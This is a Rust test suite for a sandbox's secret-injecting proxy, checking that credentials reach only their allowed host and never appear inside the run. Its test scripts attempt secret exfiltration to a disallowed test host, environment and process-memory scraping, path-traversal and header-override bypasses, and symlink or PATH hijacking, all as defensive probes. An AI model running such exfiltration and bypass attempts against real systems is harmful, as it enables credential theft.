//! Credentials that requests carry and runs never have, and the certificates that this needs.

use std::time::{Duration, Instant};

use crate::rows::{ALLOWED, CANARY, Outcome, Row, reset, sh, world_of};
use crate::servers::Servers;
use crate::support::World;

pub(crate) const ROWS: &[(&str, Row)] = &[
    ("a secret reaches its host and is nowhere inside", secret_reaches_its_host),
    ("a placeholder elsewhere is refused", placeholder_elsewhere),
    ("a secret's sources and their errors", secret_sources),
    ("a secret's file is read again when it was replaced", file_is_read_again),
    ("a secret's file in the workspace is read once", source_in_the_workspace),
    ("a secret's command runs again when the host refuses the value", command_runs_again),
    ("a secret's command is not what the run has written", command_in_the_workspace),
    ("a secret's value is replaced in every body", value_in_answers),
    ("a client with certificates of its own uses a base URL", base_url),
    ("clients trust the run's authority", clients_trust_the_authority),
];

/// Every path below a directory, as text.
fn contains(dir: &std::path::Path, needle: &str) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            found.extend(contains(&path, needle));
        } else if std::fs::read(&path)
            .is_ok_and(|bytes| bytes.windows(needle.len()).any(|w| w == needle.as_bytes()))
        {
            found.push(path);
        }
    }
    found
}

fn secret_reaches_its_host(servers: &Servers) {
    let world = world_of(servers).var("CANARY", CANARY);
    let script = format!(
        r#"curl -sSi -H "Authorization: Bearer $TOKEN" https://allowed.test/v1/x
echo "T=$TOKEN C=$CANARY"; env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'
{PROBE}"#,
        PROBE = "grep -rls -e C4n4r[y] /etc /run /tmp /dev/shm . 2>/dev/null; true"
    );
    let flags = ["--net", ALLOWED, "--secret", "TOKEN=env:CANARY@allowed.test/v1"];
    let (code, json) = world.sh_json(&flags, &script);
    let ran = Outcome(code, json);
    let requests = servers.requests();
    assert!(requests[0].contains(&format!("Bearer {CANARY}")), "{requests:?}\n{}", ran.1);
    let text = ran.1.to_string();
    assert!(!text.contains("C4n4ry"), "{text}");
    // The placeholder has the shape of the value, and stands for it in the answer.
    let shown = ran.stdout().lines().find_map(|line| line.strip_prefix("T=")).unwrap();
    let shown = shown.split(' ').next().unwrap();
    assert!(
        shown.starts_with(concat!("sk-an", "t-api03-")) && shown.len() == CANARY.len(),
        "{shown}"
    );
    ran.says(&format!("Bearer {shown}\n"));
    assert!(
        ran.stdout().to_lowercase().contains(&format!("x-seen: bearer {shown}").to_lowercase())
    );
    assert!(contains(world.root(), "C4n4ry").is_empty());
    assert_eq!(ran.connections("allowed")[0]["requests"], 1u64);
    // The plan shows the source and not the value, and hashes alike.
    let explained =
        world.ringfence(&[&["explain"], &flags[..], &["--json", "--", "true"]].concat());
    assert!(!explained.stdout.contains("C4n4ry") && explained.code == 0, "{}", explained.stderr);
    let (_, again) = world.sh_json(&flags, "true");
    assert_eq!(again["enforcement"]["policy_sha256"], ran.1["enforcement"]["policy_sha256"]);
    if rustix::process::geteuid().is_root() {
        in_no_memory(&world, &flags);
    }
}

/// Searches the memory of every process of a run while it holds a connection that carried the secret.
fn in_no_memory(world: &World, flags: &[&str]) {
    let script = r#"curl -sS -o /dev/null -H "Authorization: Bearer $TOKEN" https://allowed.test/v1/x; echo up; read x"#;
    let live = world.live(&[&["run"], flags, &["--", "sh", "-c", script]].concat());
    let supervisor = live.pid().as_raw_nonzero().get();
    let mut n = 0;
    for name in ringfence_sys::list_kernel_directory("/proc").unwrap() {
        let Some(pid) = name.to_str().and_then(|name| name.parse::<i32>().ok()) else { continue };
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        let field =
            |key: &str| status.lines().find_map(|line| line.strip_prefix(key)).map(str::trim);
        // In a pid namespace below this one, and a descendant of the supervisor.
        let inside = field("NSpid:").is_some_and(|pids| pids.split_whitespace().count() > 1);
        if !inside || !descends(pid, supervisor) {
            continue;
        }
        n += 1;
        let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap();
        let memory = std::fs::File::open(format!("/proc/{pid}/mem")).unwrap();
        for line in maps.lines().filter(|line| line.contains(" rw")) {
            let (first, last) = line.split(' ').next().unwrap().split_once('-').unwrap();
            let (first, last) =
                (u64::from_str_radix(first, 16).unwrap(), u64::from_str_radix(last, 16).unwrap());
            let mut bytes = vec![0; usize::try_from(last - first).unwrap()];
            let read = std::os::unix::fs::FileExt::read_at(&memory, &mut bytes, first).unwrap_or(0);
            assert!(!bytes[..read].windows(8).any(|w| w == b"C4n4ryVA"), "pid {pid}: {line}");
        }
    }
    assert!(n >= 2, "{n} processes inside");
    drop(live.end());
}

fn descends(pid: i32, from: i32) -> bool {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    let parent =
        stat.rsplit_once(')').and_then(|(_, rest)| rest.split_whitespace().nth(1)?.parse().ok());
    match parent {
        Some(parent) if parent == from => true,
        Some(parent) if parent > 1 => descends(parent, from),
        _ => false,
    }
}

fn placeholder_elsewhere(servers: &Servers) {
    let world = world_of(servers).var("CANARY", CANARY);
    let rules = "allow:allowed.test@127.0.0.2/32,plain.test@127.0.0.2/32";
    let flags = ["--net", rules, "--secret", "TOKEN=env:CANARY@allowed.test/v1"];
    let script = r#"curl -sS -H "Authorization: Bearer $TOKEN" https://allowed.test/v2/x
curl -sS -H "Authorization: Bearer $TOKEN" http://allowed.test/v1/x
curl -sS "http://plain.test/?t=$TOKEN"
curl -sS -u "user:$TOKEN" http://plain.test/
curl -sS -H "x-amz-meta-a: $TOKEN" https://allowed.test/v1/stored
curl -sS -H "x-amz-meta-api-key: $TOKEN" https://allowed.test/v1/stored
curl -sS "https://allowed.test/v1/shown?title=$TOKEN"
curl -sS "https://allowed.test/v1/shown?key=a$TOKEN"
curl -sS "https://allowed.test/v1/%25%32%65%25%32%65/v2?key=$TOKEN"
curl -sS -H "X-Original-URL: /v2" https://allowed.test/v1/other
curl -sS "https://allowed.test/v1/by-query?access_token=$TOKEN" -H "X-Api-Key: $TOKEN"
curl -sS https://allowed.test/v2/without"#;
    let (code, json) = world.sh_json(&flags, script);
    let ran = Outcome(code, json);
    ran.says("the placeholder of `TOKEN` is for allowed.test/v1 only").says("GET /v2/without");
    ran.says("the placeholder of `TOKEN` is for fields that authenticate only");
    ran.says("judged by method and path, which `x-original-url` would replace");
    let requests = servers.requests();
    assert!(
        requests[0].contains(&format!("GET /v1/by-query?access_token={CANARY} "))
            && requests[0].contains(&format!("x-api-key: {CANARY}")),
        "{requests:#?}"
    );
    assert_eq!(servers.requests().len(), 2, "{:#?}", servers.requests());
    ran.denied(&["connect(plain.test:80)", "placeholder of `TOKEN`"]);
    let alerts = world.ringfence(&["audit", "export", "--format", "jsonl"]);
    assert!(alerts.stdout.contains("misplaced_secret"), "{} {}", alerts.stdout, alerts.stderr);
}

fn secret_sources(servers: &Servers) {
    let world = world_of(servers);
    let file = world.write("work/token.txt", &format!("{CANARY}\n"));
    let file = format!("TOKEN=file:{}@allowed.test", file.display());
    let command = format!("TOKEN=cmd:echo {CANARY}@allowed.test");
    for secret in [&file, &command] {
        let script = r#"curl -sS -u "x:$TOKEN" https://allowed.test/; cat token.txt 2>&1"#;
        let (_, json) = world.sh_json(&["--net", ALLOWED, "--secret", secret], script);
        let text = json.to_string();
        // A file that is not the source is the workspace's own.
        assert!(secret == &command || !text.contains("C4n4ry"), "{text}");
    }
    assert_eq!(servers.requests().len(), 2);
    for (net, secret, words) in [
        (ALLOWED, "TOKEN=env:MISSING@allowed.test", "no variable `MISSING`"),
        (ALLOWED, "TOKEN=file:/nowhere@allowed.test", "/nowhere"),
        (ALLOWED, "TOKEN=cmd:exit 3@allowed.test", "exit status: 3"),
        (ALLOWED, "TOKEN=cmd:echo short@allowed.test", "fewer than 8"),
        (ALLOWED, "TOKEN=cmd:echo two words here@allowed.test", "no header can carry"),
        (ALLOWED, "TOKEN=env:PATH", "@HOST"),
        ("none", "TOKEN=env:PATH@allowed.test", "--net allow:allowed.test"),
        (ALLOWED, "TOKEN=env:PATH@other.test", "--net allow:other.test"),
    ] {
        let ran = world.ringfence(&["run", "--net", net, "--secret", secret, "--", "true"]);
        assert_eq!(ran.code, 2, "{secret}: {}", ran.stderr);
        assert!(ran.stderr.contains(words), "{secret}: {}", ran.stderr);
    }
}

fn clients_trust_the_authority(servers: &Servers) {
    let world = world_of(servers).var("CANARY", CANARY);
    let secret = "TOKEN=env:CANARY@allowed.test";
    for client in [
        "curl -sS https://allowed.test/",
        "git ls-remote https://allowed.test/x",
        "/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen(\"https://allowed.test/\").read())'",
        "wget -qO- https://allowed.test/",
        "node -e 'fetch(\"https://allowed.test/\").then(r => r.text()).then(console.log)'",
    ] {
        let tool = client.split(' ').next().unwrap();
        if sh(&world, "none", &format!("command -v {tool}")).0 != 0 {
            ringfence_testing::missing("tools", &format!("`{tool}` is not installed"));
            continue;
        }
        reset(servers);
        let (_, json) = world.sh_json(&["--net", ALLOWED, "--secret", secret], client);
        assert_eq!(
            servers.requests().len(),
            1,
            "{client}: {} {}",
            json["stderr"],
            json["connections"]
        );
    }
}

/// A file that the operator replaces while a run uses it, by a value of another length.
fn file_is_read_again(servers: &Servers) {
    let world = world_of(servers);
    let later = format!("{CANARY}-and-longer");
    let file = world.write("token", &format!("{CANARY}\n"));
    servers.refuse_token(CANARY);
    let secret = format!("TOKEN=file:{}@allowed.test", file.display());
    let script = r#"for i in $(seq 100); do
curl -sS -o answer -w '%{http_code}\n' -H "Authorization: Bearer $TOKEN" https://allowed.test/ > code
read code < code; [ "$code" = 200 ] && break; sleep 0.2; done; echo "code $code"; cat answer; echo "T=$TOKEN""#;
    let flags = ["run", "--json", "--net", ALLOWED, "--secret", &secret, "--", "sh", "-c", script];
    let replaced = std::thread::scope(|scope| {
        let replacing = scope.spawn(|| {
            let until = Instant::now() + Duration::from_mins(1);
            while servers.requests().is_empty() && Instant::now() < until {
                std::thread::sleep(Duration::from_millis(20));
            }
            let new = world.write("token.new", &later);
            std::fs::rename(new, &file).unwrap();
        });
        let ran = world.ringfence(&flags);
        replacing.join().unwrap();
        ran
    });
    let ran = Outcome(replaced.code, replaced.json());
    let shown = ran.stdout().lines().find_map(|line| line.strip_prefix("T=")).unwrap().to_owned();
    ran.says("code 200").says(&format!("Bearer {shown}"));
    let requests = servers.requests();
    assert!(requests[0].contains(CANARY) && !requests[0].contains(&later), "{requests:?}");
    assert!(requests.last().unwrap().contains(&later), "{requests:?}");
    assert!(!ran.1.to_string().contains("C4n4ry"), "{}", ran.1);
}

/// A source in the workspace: the run cannot have the host read another file in its place.
fn source_in_the_workspace(servers: &Servers) {
    let world = world_of(servers);
    let other = world.write("other", "another-files-content");
    let file = world.write("work/sub/token", CANARY);
    servers.refuse_token(CANARY);
    let secret = format!("TOKEN=file:{}@allowed.test", file.display());
    let script = format!(
        r#"get() {{ curl -sS -o /dev/null -w '%{{http_code}}\n' -H "Authorization: Bearer $TOKEN" https://allowed.test/; }}
get; mv sub away; mkdir sub; rm -f sub/token; ln -sf {} sub/token; get; sleep 1; get"#,
        other.display()
    );
    let (code, json) = world.sh_json(&["--net", ALLOWED, "--secret", &secret], &script);
    let ran = Outcome(code, json);
    assert_eq!(ran.stdout(), "401\n401\n401\n", "{}", ran.1);
    let requests = servers.requests().join("\n");
    assert!(!requests.contains("another-files"), "{requests}");
    // Nor by a link that an earlier run left, which did not have the secret.
    world.sh(&[], &format!("ln -sf {} sub/token", other.display()));
    let next = world.ringfence(&["run", "--net", ALLOWED, "--secret", &secret, "--", "true"]);
    assert_eq!(next.code, 126, "{}", next.stderr);
    assert!(next.stderr.contains("is a link that leads out of the workspace"), "{}", next.stderr);
}

/// A command that prints another value each time.
fn command_runs_again(servers: &Servers) {
    let world = world_of(servers);
    servers.refuse_token(&format!("{CANARY}1"));
    let counter = world.write("counter", "");
    let command = format!("echo x >> {0}; echo {CANARY}$(wc -l < {0})", counter.display());
    let secret = format!("TOKEN=cmd:{command}@allowed.test");
    let script = r#"for i in 1 2 3; do curl -sS -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $TOKEN" https://allowed.test/; done"#;
    let (code, json) = world.sh_json(&["--net", ALLOWED, "--secret", &secret], script);
    let ran = Outcome(code, json);
    // Once refused, then read again; no more often than that.
    assert_eq!(ran.stdout(), "401\n200\n200\n", "{}", ran.1);
    assert_eq!(std::fs::read_to_string(&counter).unwrap(), "x\nx\n");
    // A source that fails later: the old value stays, and the outcome says so.
    let command =
        format!("[ ! -e {0}.used ] && touch {0}.used && echo {CANARY}1", counter.display());
    let secret = format!("TOKEN=cmd:{command}@allowed.test");
    let (code, json) = world.sh_json(&["--net", ALLOWED, "--secret", &secret], script);
    let ran = Outcome(code, json);
    assert_eq!(ran.stdout(), "401\n401\n401\n", "{}", ran.1);
    let gaps = ran.1["enforcement"]["gaps"].to_string();
    assert!(gaps.contains("the secret `TOKEN` was not read again"), "{gaps}");
}

/// A program that the run has written is not what the host executes for a new value, wherever the shell would find it.
fn command_in_the_workspace(servers: &Servers) {
    let value = format!("{CANARY}1");
    for (variable, command) in [
        ("PATH", "print_token"),
        ("PYTHONPATH", "/usr/bin/python3 -c 'import token_source'"),
        ("UNUSED", "cd ~/../work && ./print_token"),
        ("UNUSED", "./print_token"),
    ] {
        reset(servers);
        let world = world_of(servers);
        servers.refuse_token(&value);
        let work = world.work();
        world.write_executable("work/print_token", &format!("#!/bin/sh\necho {value}\n"));
        world.write("work/token_source.py", &format!("print('{value}')\n"));
        let path = std::env::var("PATH").unwrap();
        let found = if variable == "PATH" {
            format!("{}:{path}", work.display())
        } else {
            work.display().to_string()
        };
        let world = world.var(variable, &found);
        let secret = format!("TOKEN=cmd:{command}@allowed.test");
        let script = r#"get() { curl -sS -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $TOKEN" https://allowed.test/; }
get; for f in print_token token_source.py; do echo "echo planted-by-the-run; touch executed" > $f; done; get; sleep 1; get"#;
        let (code, json) = world.sh_json(&["--net", ALLOWED, "--secret", &secret], script);
        let ran = Outcome(code, json);
        assert_eq!(ran.stdout(), "401\n401\n401\n", "{command}: {}", ran.1);
        assert!(!servers.requests().join(" ").contains("planted"), "{command}");
        assert!(!work.join("executed").exists(), "{command}");
    }
}

/// A host that sends the value back gets it replaced in any body, and is asked for whole ones.
fn value_in_answers(servers: &Servers) {
    let world = world_of(servers).var("CANARY", CANARY);
    servers.file("/v1/binary", [b"\xff\x00".as_slice(), CANARY.as_bytes(), b"\xfe"].concat());
    let flags = ["--net", ALLOWED, "--secret", "TOKEN=env:CANARY@allowed.test/v1"];
    let script = r#"get() { curl -sS -H "Authorization: Bearer $TOKEN" "$@" https://allowed.test/v1/binary; }
get -o whole; get -r 2-9 -o part; grep -c "$TOKEN" whole part; wc -c < whole"#;
    let (code, json) = world.sh_json(&flags, script);
    let ran = Outcome(code, json);
    ran.says("whole:1").says("part:1").says(&format!("{}\n", CANARY.len() + 3));
    let requests = servers.requests();
    assert!(!requests.iter().any(|request| request.contains("ange: bytes")), "{requests:#?}");
    assert!(contains(&world.work(), "C4n4ry").is_empty());
}

/// `http://127.0.0.1:3128/https/HOST`, for the hosts of secrets only.
fn base_url(servers: &Servers) {
    let world = world_of(servers).var("CANARY", CANARY);
    let rules = "allow:allowed.test@127.0.0.2/32,other.test@127.0.0.2/32";
    let flags = ["--net", rules, "--secret", "TOKEN=env:CANARY@allowed.test/v1"];
    let script = r#"base=http://127.0.0.1:3128/https
get() { curl -sS -w ' %{http_code}\n' -H "Authorization: Bearer $TOKEN" "$@"; }
get $base/allowed.test/v1/models?page=2; get -d text $base/allowed.test:443/v1/chat
get $base/allowed.test/v2; get $base/other.test/v1; curl -sS $base/allowed.test; curl -sS $base//x
curl -sS --cacert /dev/null https://allowed.test/v1 || echo "own certificates""#;
    let (code, json) = world.sh_json(&flags, script);
    let ran = Outcome(code, json);
    ran.says("GET /v1/models?page=2 HTTP/1.1 for allowed.test: Bearer ").says(" 200\n");
    ran.says("POST /v1/chat HTTP/1.1 for allowed.test: text");
    ran.says("the placeholder of `TOKEN` is for allowed.test/v1 only");
    ran.says("no secret is for other.test, so it has no base URL")
        .says("GET / HTTP/1.1 for allowed.test");
    ran.says("a base URL is /https/HOST of this proxy").says("own certificates");
    let requests = servers.requests();
    assert_eq!(requests.len(), 3, "{requests:#?}");
    assert!(requests[0].contains(&format!("Bearer {CANARY}")), "{requests:?}");
    assert!(!ran.1.to_string().contains("C4n4ry"), "{}", ran.1);
    let reason = ran.connections("failed")[0]["reason"].as_str().unwrap();
    assert!(reason.contains("http://127.0.0.1:3128/https/allowed.test"), "{reason}");
}
